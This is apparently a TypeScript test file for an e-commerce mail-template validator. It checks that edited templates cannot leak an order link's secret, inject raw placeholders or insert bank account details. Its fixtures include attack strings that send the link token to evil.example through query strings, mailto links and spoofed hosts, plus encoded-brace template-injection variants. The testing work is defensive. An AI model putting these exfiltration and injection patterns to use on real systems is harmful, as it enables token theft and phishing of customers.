// Words of a mail, as somebody with a stolen session would write them: a link's secret, a value as HTML and money stay where they belong.
import { describe, expect, it } from 'vitest';
import { factsOf } from '#lib/fill.ts';
import { mistakeInMail, readTemplate } from '#server/mail/read-template.ts';
import { readCompany } from '#server/platform/content.ts';

const facts = factsOf(readCompany());
const mistakeIn = (body: string, subject = 'Hello') =>
  mistakeInMail('order-paid', { subject, body }, facts)?.text;

describe('a link’s secret', () => {
  it.each([
    ['another site', '[Go](https://evil.example/?t={{order.link}})'],
    ['another site, by a reference', '[Go][1]\n\n[1]: https://evil.example/{{order.link}}'],
    ['another site, in angle brackets', '[Go](<https://evil.example/{{ order.link }}>)'],
    ['another site, as a bare address', 'See https://evil.example/?t={{order.link}} now'],
    ['another site, as an automatic link', '<https://evil.example/?t={{order.link}}>'],
    ['another site, by its text', '[{{order.link}}](https://evil.example)'],
    ['another site, by a part of its text', '[**{{order.link}}**](https://evil.example)'],
    ['a host that begins as ours', '[Go]({{site}}.evil.example/?t={{order.link}})'],
    ['a host behind ours as a name', '[Go]({{site}}@evil.example/?t={{order.link}})'],
    ['a port of ours that is a password', '[Go]({{site}}:1@evil.example/?t={{order.link}})'],
    ['a page of ours that would keep it', '[Go]({{site}}/contact?t={{order.link}})'],
    ['a mail', '[Go](mailto:a@evil.example?body={{order.link}})'],
    ['a phone', '[Go](tel:{{order.link}})'],
  ])('doesn’t go to %s', (_, body) => {
    expect(mistakeIn(body)).toMatch(/^(?:The link|A link)/);
  });

  it.each([
    ['an address without its scheme', 'evil.example/?t={{order.link}}'],
    ['one in bold', 'evil.example/?t=**{{order.link}}**'],
    ['one before a link without words', 'evil.example/?t=[]({{order.link}})'],
    ['one before a no-break space', 'evil.example/?t=&nbsp;{{order.link}}'],
    ['one before a bracket', 'evil.example/?t=({{order.link}})'],
    ['a mail address', 'mailto:a@evil.example?body={{order.link}}'],
    ['our own host’s name', '{{site}}.evil.example/{{order.link}}'],
  ])('doesn’t stand right behind %s', (_, body) => {
    expect(mistakeIn(body)).toBe('Leave a space before {{order.link}}');
  });

  it('doesn’t stand behind an address in the subject', () => {
    expect(mistakeIn('Hello', 'evil.example/?t={{ order.link }}')).toBe(
      'Leave a space before {{order.link}}',
    );
  });

  it.each([
    '[See it]({{order.link}})',
    'See [it]({{order.link}}) or ({{order.link}}).',
    '{{order.link}}',
    'It’s at {{ order.link }}',
    '- {{order.link}}\n- **{{order.link}}**',
    '[{{order.link}}]({{order.link}})',
    '[Go]({{site}}), [there]({{site}}#top), [or]({{site}}?a) [here](https://example.com/{{company.name}})',
  ])('goes to this site: %s', (body) => {
    expect(mistakeIn(body)).toBeUndefined();
  });

  it.each(['{{site}}.evil.example', '{{site}}@evil.example', '{{site}}:1@evil.example', '{{site}}evil'])(
    'an address that only begins as ours is refused without one, too: %s',
    (address) => {
      expect(mistakeIn(`[Go](${address})`)).toContain('must begin with {{site}} or https://');
    },
  );
});

describe('braces', () => {
  it.each([
    String.raw`\{\{\{order.name}}}`,
    String.raw`\\\{\{\{order.name}}}`,
    String.raw`**\{\{\{order.name}}}**`,
    String.raw`# \{\{\{order.name}}}`,
    String.raw`- \{\{\{order.name}}}`,
    String.raw`\{\{&order.name}}`,
    String.raw`\{\{\{block.order.name}}}`,
    String.raw`\{\{#order.name}}\{\{/order.name}}`,
    String.raw`\{\{=<% %>=}} <%& order.name %>`,
    String.raw`[Go](https://example.com/\{\{\{order.name}}})`,
    String.raw`[Go](<https://example.com/\{\{order.name}}>)`,
    '&#123;&#123;&#123;order.name}}}',
    '&lbrace;&lcub;&#x7b;order.name&rcub;}}',
    '&amp;#123;&amp;#123;&amp;#123;order.name}}}',
    '[Go](https://example.com/&#123;&#123;&#123;order.name}}})',
    '`&#123;&#123;&#123;order.name}}}`',
    '%7B%7B%7Border.name%7D%7D%7D',
    '\ue000order.name\ue002 \ue001order.name\ue002',
  ])('that are spelled otherwise are no placeholder: %s', (body) => {
    const { html } = readTemplate(
      'order-paid',
      { subject: 'Hello', body: `${body}\n\n{{order.name}}` },
      facts,
    );
    expect(html.match(/[{}]+[^{}]*/g)).toEqual(['{{{block.order.name', '}}}\n']);
  });

  it('that only the code writes are refused', () => {
    expect(mistakeIn('Dear {{block.order.name}}')).toContain('is no placeholder');
    expect(mistakeIn('Dear', '{{block.order.name}}')).toContain('is no placeholder');
    expect(mistakeIn('Dear', '{{{order.name}}}')).toContain('is no placeholder');
  });
});

describe('a bank account', () => {
  it.each([
    'Our new sort code is 12-34-56.',
    'Our new sort code is 12-**34**-56.',
    'Pay to\n\n- 1234&nbsp;5678',
    '[12&#45;34-56](https://example.com)',
    String.raw`12\-34\-56`,
    'Account `12345678`',
    '# １２３４ ５６７８',
  ])('is refused: %s', (body) => {
    expect(mistakeIn(body)).toMatch(/^It takes no bank account: bills print yours/);
  });

  it('is refused in the subject', () => {
    expect(mistakeIn('Hello', 'Pay 12345678, 12-34-56')).toContain('no bank account');
  });
});
